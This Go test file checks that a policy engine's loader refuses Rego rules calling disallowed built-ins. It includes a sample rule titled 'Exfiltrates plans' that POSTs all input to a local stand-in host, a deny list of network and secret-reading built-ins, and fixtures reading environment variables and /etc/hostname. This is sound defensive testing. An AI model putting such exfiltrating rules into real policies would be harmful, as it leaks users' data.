package policy_test

import (
	"context"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/open-policy-agent/opa/v1/ast"

	"github.com/triangulate-nhs/triangulate/internal/check"
	"github.com/triangulate-nhs/triangulate/internal/policy"
	"github.com/triangulate-nhs/triangulate/internal/testutil"
)

const hostileRule = `# METADATA
# title: Exfiltrates plans
# custom:
#   id: X99
#   category: alignment
#   severity: error
package triangulate.rules.x99

findings contains {"rule": "X99"} if {
	http.send({"method": "POST", "url": "http://127.0.0.1:1/", "body": input})
}
`

func TestLoadRejects(t *testing.T) {
	tests := []struct {
		name, file, src, want string
	}{
		{"network builtin", "policy/rules/x99/x99.rego", hostileRule, "http.send"},
		{"syntax", "policy/rules/x98/x98.rego", "package triangulate.rules.x98\nfindings contains x if {", "parse policy"},
		{"duplicate id", "policy/rules/x97/x97.rego", strings.Replace(strings.Replace(hostileRule, "X99", "A01", 1), "http.send({\"method\": \"POST\", \"url\": \"http://127.0.0.1:1/\", \"body\": input})", "false", 1), "rule id A01 already used"},
		{"bad severity", "policy/rules/x96/x96.rego", strings.Replace(strings.Replace(hostileRule, "severity: error", "severity: fatal", 1), "http.send({\"method\": \"POST\", \"url\": \"http://127.0.0.1:1/\", \"body\": input})", "false", 1), "is not error, warning or info"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			fsys := testutil.RepoFS(t)
			fsys[tc.file] = &fstest.MapFile{Data: []byte(tc.src)}
			_, err := policy.Load(context.Background(), fsys)
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("err = %v, want one containing %q", err, tc.want)
			}
		})
	}
}

func TestCatalogueCoversEveryPolicyRule(t *testing.T) {
	e, err := policy.Load(context.Background(), testutil.RepoFS(t))
	if err != nil {
		t.Fatal(err)
	}
	var ids []string
	for _, r := range e.Rules() {
		ids = append(ids, r.ID)
		if r.Title == "" || r.Description == "" || r.Rationale == "" {
			t.Errorf("%s: title, description and rationale are all required: %+v", r.ID, r)
		}
	}
	want := "A01 A02 A03 A04 A05 A06 B01 B02 B03 B04 B05 B06 B07 B08 C01 C02 C03 C04 C05 C06 I01 I02 I03 I04 I05 I06 N01 N02 N03 N04 P01 R01 R02 R03 R04"
	if got := strings.Join(ids, " "); got != want {
		t.Errorf("rules = %s\nwant    %s", got, want)
	}
}

// refusedFamilies are the built-ins the allowlist leaves out, by name or by
// name prefix (ending in "."), with why. Every built-in of this OPA version
// must be either allowed or listed here, so an upgrade that adds one fails
// TestCapabilitiesClassifyEveryBuiltin until someone decides.
var refusedFamilies = map[string]string{
	"http.send":                 "network",
	"net.":                      "network (lookups) and no rule needs CIDRs",
	"opa.runtime":               "reads the environment and configuration",
	"json.match_schema":         "follows $ref to http:// and file://",
	"json.verify_schema":        "follows $ref to http:// and file://",
	"time.":                     "clock and time zone files",
	"rand.":                     "random",
	"uuid.rfc4122":              "random",
	"io.jwt.":                   "clock (verification) and randomness (signing)",
	"crypto.x509.":              "clock (certificate validity)",
	"crypto.parse_private_keys": "no rule needs keys",
	"providers.":                "clock, and signs requests for the network",
	"graphql.":                  "no rule needs another language's parser",
	"rego.parse_module":         "compiles policy at evaluation time",
	"trace":                     "writes to the host's trace output",
	"internal.test_case":        "the test runner's",
}

func refused(name string) (string, bool) {
	for fam, why := range refusedFamilies {
		if name == fam || (strings.HasSuffix(fam, ".") && strings.HasPrefix(name, fam)) {
			return why, true
		}
	}
	return "", false
}

func TestCapabilitiesClassifyEveryBuiltin(t *testing.T) {
	allowed := map[string]bool{}
	for _, b := range policy.Capabilities().Builtins {
		allowed[b.Name] = true
		if why, no := refused(b.Name); no {
			t.Errorf("%s is allowed, yet refused: %s", b.Name, why)
		}
	}
	for _, b := range ast.CapabilitiesForThisVersion().Builtins {
		if _, no := refused(b.Name); !allowed[b.Name] && !no && !b.IsDeprecated() {
			t.Errorf("%s is neither allowed nor refused: read what it does and add it to one list", b.Name)
		}
		if allowed[b.Name] && b.IsDeprecated() {
			t.Errorf("%s is deprecated, yet allowed", b.Name)
		}
	}
	if c := policy.Capabilities(); c.AllowNet == nil || len(c.AllowNet) != 0 {
		t.Errorf("AllowNet = %#v, want an empty, non-nil list (nil allows every host)", c.AllowNet)
	}
}

// hostileRuleCalling is a rule whose body is body.
func hostileRuleCalling(body string) string {
	return strings.Replace(hostileRule, `http.send({"method": "POST", "url": "http://127.0.0.1:1/", "body": input})`, body, 1)
}

// TestLoadRefusesBuiltinsOutsideTheAllowlist: a policy calling any refused
// built-in fails to compile with an error naming it, so nothing of it runs.
// (internal/sandbox checks end to end that no request is made.)
func TestLoadRefusesBuiltinsOutsideTheAllowlist(t *testing.T) {
	const url = "http://127.0.0.1:1/s.json"
	tests := []struct{ builtin, call string }{
		{"http.send", `http.send({"method": "GET", "url": "` + url + `"}).status_code == 200`},
		{"net.lookup_ip_addr", `count(net.lookup_ip_addr("example.com")) > 0`},
		{"net.cidr_contains", `net.cidr_contains("10.0.0.0/8", "10.0.0.1")`},
		{"opa.runtime", `opa.runtime().env.HOME != ""`},
		{"json.match_schema", `json.match_schema({"a": 5}, {"$ref": "` + url + `"})[0]`},
		{"json.match_schema", `json.match_schema({"a": 5}, {"$ref": "file:///etc/hostname"})[0]`},
		{"json.verify_schema", `json.verify_schema({"$ref": "` + url + `"})[0]`},
		{"time.now_ns", `time.now_ns() > 0`},
		{"time.date", `time.date([0, "Europe/London"])[0] > 2000`},
		{"rand.intn", `rand.intn("x", 10) == 1`},
		{"uuid.rfc4122", `uuid.rfc4122("x") != ""`},
		{"io.jwt.decode_verify", `io.jwt.decode_verify("a.b.c", {"secret": "s"})[0]`},
		{"io.jwt.encode_sign", `io.jwt.encode_sign({"alg": "HS256"}, {}, {"kty": "oct", "k": "cw"}) != ""`},
		{"crypto.x509.parse_and_verify_certificates", `crypto.x509.parse_and_verify_certificates("x")[0]`},
		{"crypto.parse_private_keys", `count(crypto.parse_private_keys("x")) > 0`},
		{"providers.aws.sign_req", `providers.aws.sign_req({}, {}, 0) != {}`},
		{"graphql.is_valid", `graphql.is_valid("{ a }", "type Query { a: Int }")`},
		{"rego.parse_module", `rego.parse_module("x.rego", "package x") != {}`},
		{"trace", `trace("x")`},
		{"re_match", `re_match("a", "a")`},
	}
	for _, tc := range tests {
		t.Run(tc.builtin, func(t *testing.T) {
			fsys := testutil.RepoFS(t)
			fsys["policy/rules/x99/x99.rego"] = &fstest.MapFile{Data: []byte(hostileRuleCalling(tc.call))}
			_, err := policy.Load(context.Background(), fsys)
			if err == nil || !strings.Contains(err.Error(), "undefined function "+tc.builtin) {
				t.Fatalf("err = %v, want one saying %s is undefined", err, tc.builtin)
			}
		})
	}
}

// TestBuiltinErrorsFailTheEvaluation: a built-in that fails stops the
// evaluation with an error naming it, instead of leaving the rule silently
// undefined.
func TestBuiltinErrorsFailTheEvaluation(t *testing.T) {
	fsys := testutil.RepoFS(t)
	fsys["policy/rules/x99/x99.rego"] = &fstest.MapFile{Data: []byte(hostileRuleCalling(`some code, _ in input.plans; to_number(code) > 0`))}
	rules, err := check.LoadRules(context.Background(), fsys, check.Options{Today: today})
	if err != nil {
		t.Fatal(err)
	}
	_, err = check.Run(context.Background(), rules, fsys, check.Options{Today: today})
	if err == nil || !strings.Contains(err.Error(), "to_number") {
		t.Fatalf("err = %v, want the evaluation to fail naming to_number", err)
	}
}
